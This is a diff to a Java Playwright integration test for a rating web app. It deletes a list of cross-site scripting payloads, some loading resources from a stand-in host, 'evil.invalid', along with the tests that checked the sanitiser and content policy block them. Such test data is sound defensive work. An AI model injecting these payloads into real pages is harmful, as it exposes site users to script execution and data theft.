@@ -9,17 +9,14 @@ import static dev.evenhand.web.Booth.vote;
 import static org.awaitility.Awaitility.await;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertNotEquals;
-import static org.junit.jupiter.api.Assertions.assertNull;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.google.gson.JsonObject;
 import com.microsoft.playwright.Browser.NewContextOptions;
 import com.microsoft.playwright.BrowserContext;
 import com.microsoft.playwright.CDPSession;
-import com.microsoft.playwright.Dialog;
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
-import com.microsoft.playwright.Request;
 import com.microsoft.playwright.options.AriaRole;
 import com.microsoft.playwright.options.Contrast;
 import com.microsoft.playwright.options.ForcedColors;
@@ -27,7 +24,6 @@ import com.microsoft.playwright.options.ReducedMotion;
 import dev.evenhand.Api;
 import io.quarkus.test.junit.QuarkusIntegrationTest;
 import io.restassured.path.json.JsonPath;
-import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.CopyOnWriteArrayList;
@@ -42,32 +38,6 @@ class RatersPageIT {
     private static final double LIGHT_BYTES = 150_000;
 
     private static final int FEW_REQUESTS = 12;
-
-    /** Each leaves a mark on the page if it runs, or asks another host if it loads. */
-    private static final List<String> ATTACKS = List.of(
-            "<script>window.__pwned=1</script>",
-            "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
-            "<script src=//evil.invalid/x.js></script>",
-            "<img src=x onerror=window.__pwned=1>",
-            "<img src=//evil.invalid/pixel.png>",
-            "<svg onload=window.__pwned=1><use href=//evil.invalid/a.svg#a></svg>",
-            "<details open ontoggle=window.__pwned=1>x</details>",
-            "<body onload=window.__pwned=1>",
-            "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
-            "<iframe src=javascript:parent.__pwned=1></iframe>",
-            "<object data=//evil.invalid/o></object><embed src=//evil.invalid/e>",
-            "<link rel=stylesheet href=//evil.invalid/s.css><style>@import url(//evil.invalid/t.css);</style>",
-            "<base href=//evil.invalid/><a href=x>x</a>",
-            "<form action=//evil.invalid/ id=app><input name=submit autofocus onfocus=window.__pwned=1></form>",
-            "<video src=//evil.invalid/v onerror=window.__pwned=1></video>",
-            "<div style='position:fixed;inset:0;background:url(//evil.invalid/b.png)'>cover</div>",
-            "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
-            "[press](javascript:window.__pwned=1) and ![pixel](https://evil.invalid/p.png)",
-            "```\"><img src=x onerror=window.__pwned=1>\ncode\n```",
-            "```js\n</code></pre><script>window.__pwned=1</script>\n```",
-            "```mermaid\ngraph TD; A[\"<img src=x onerror=window.__pwned=1>\"]; click A href \"javascript:window.__pwned=1\"\n```",
-            "$\\href{javascript:window.__pwned=1}{x}$ $\\includegraphics{//evil.invalid/p.png}$",
-            "$$\n<img src=x onerror=window.__pwned=1>\n$$");
 
     @ParameterizedTest
     @ValueSource(strings = {"en-GB", "ja-JP"})
@@ -94,58 +64,6 @@ class RatersPageIT {
             double all = bytes.stream().mapToDouble(Double::doubleValue).sum();
             assertTrue(all > 0 && all <= LIGHT_BYTES, all + " bytes");
             assertTrue(bytes.size() <= FEW_REQUESTS, bytes.size() + " requests");
-        }
-    }
-
-    @Test
-    void nothingInATextRunsOrLoadsWhereTheSanitiserIsAlone() throws Exception {
-        String slug = Api.arena(Map.of("access", "open", "votesPerMinute", 0));
-        StringBuilder file = new StringBuilder("prompt_id,prompt,model,response\n");
-        for (int i = 0; i < ATTACKS.size(); i++) {
-            String attack = quoted(ATTACKS.get(i));
-            file.append("p%d,%s,Alpha,%s\n".formatted(i, attack, attack));
-            file.append("p%d,%s,Beta,plain\n".formatted(i, attack));
-        }
-        Api.upload(slug, file.toString());
-        Api.open(slug);
-
-        try (Browser browser = new Browser()) {
-            List<String> wrong = new ArrayList<>();
-            Page page = begun(browser.newPersonWithoutPolicy(), slug);
-            watch(page, wrong);
-            for (int i = 0; i < ATTACKS.size(); i++) {
-                open(page);
-                for (String view : List.of("r", "d", "d", "r")) {
-                    page.keyboard().press(view);
-                    page.waitForTimeout(50);
-                }
-                assertNull(page.evaluate("window.__pwned"), page.content());
-                vote(page, "2");
-                assertThat(page.getByText(i + 1 + " done")).isVisible();
-            }
-            assertEquals(List.of(), wrong);
-        }
-    }
-
-    @Test
-    void nothingRunsOrLoadsWhereThePolicyIsAlone() throws Exception {
-        String slug = arena(1);
-
-        try (Browser browser = new Browser()) {
-            Page page = begun(browser.newPerson(), slug);
-            List<String> wrong = new ArrayList<>();
-            page.onRequestFinished(request -> foreign(request, wrong));
-            for (String attack : ATTACKS) {
-                page.evaluate("""
-                        attack => {
-                            const text = document.querySelector("article .text");
-                            text.innerHTML = attack;
-                            text.append(document.createRange().createContextualFragment(attack));
-                        }""", attack);
-                page.waitForTimeout(100);
-                assertNull(page.evaluate("window.__pwned"), attack);
-            }
-            assertEquals(List.of(), wrong);
         }
     }
 
@@ -527,20 +445,6 @@ class RatersPageIT {
         }
     }
 
-    private void watch(Page page, List<String> wrong) {
-        page.onRequest(request -> foreign(request, wrong));
-        page.onDialog((Dialog dialog) -> {
-            wrong.add("dialog " + dialog.message());
-            dialog.dismiss();
-        });
-    }
-
-    private void foreign(Request request, List<String> wrong) {
-        if (!request.url().startsWith(address("/"))) {
-            wrong.add(request.url());
-        }
-    }
-
     private static String arena(int prompts) {
         return Api.openArena(Map.of("access", "open", "votesPerMinute", 0), prompts, "Alpha", "Beta");
     }
@@ -552,9 +456,5 @@ class RatersPageIT {
 
     private static int count(String slug) {
         return Api.admin().get("/api/arenas/" + slug).then().extract().path("counts.votes");
-    }
-
-    private static String quoted(String cell) {
-        return '"' + cell.replace("\"", "\"\"") + '"';
     }
 }
